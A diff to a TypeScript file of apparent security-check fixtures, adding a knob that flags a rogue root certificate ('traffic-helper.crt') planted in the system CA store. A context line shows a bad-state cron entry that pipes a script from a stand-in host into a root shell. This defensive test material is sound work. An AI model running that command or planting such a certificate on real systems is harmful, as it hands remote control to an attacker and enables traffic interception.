@@ -2,6 +2,7 @@ import { put, remove, set } from '../personas/template-rows.ts'
 import type { KnobSource } from './knob.ts'
 import { augeasValue, systemdUnit } from './shared-knob-rows.ts'
 
+const ADDED_ROOT = '/usr/local/share/ca-certificates/traffic-helper.crt'
 const SSHD_CONFIG = '/etc/ssh/sshd_config'
 
 // A knob that is good while a systemd service does not run.
@@ -115,6 +116,28 @@ export const LINUX_ACCESS_KNOBS: readonly KnobSource[] = [
           day_of_week: '*',
           command: 'root curl -s http://203.0.113.9/u.sh | sh',
           path: '/etc/cron.d/update-check',
+        },
+        'path',
+      ),
+    ],
+  },
+  {
+    name: 'root-certificates',
+    title: 'No root certificate was added',
+    good: [remove('file', { path: ADDED_ROOT })],
+    bad: [
+      put(
+        'file',
+        {
+          path: ADDED_ROOT,
+          directory: '/usr/local/share/ca-certificates',
+          filename: 'traffic-helper.crt',
+          uid: 0,
+          gid: 0,
+          mode: '0644',
+          type: 'regular',
+          size: 1_314,
+          symlink: 0,
         },
         'path',
       ),
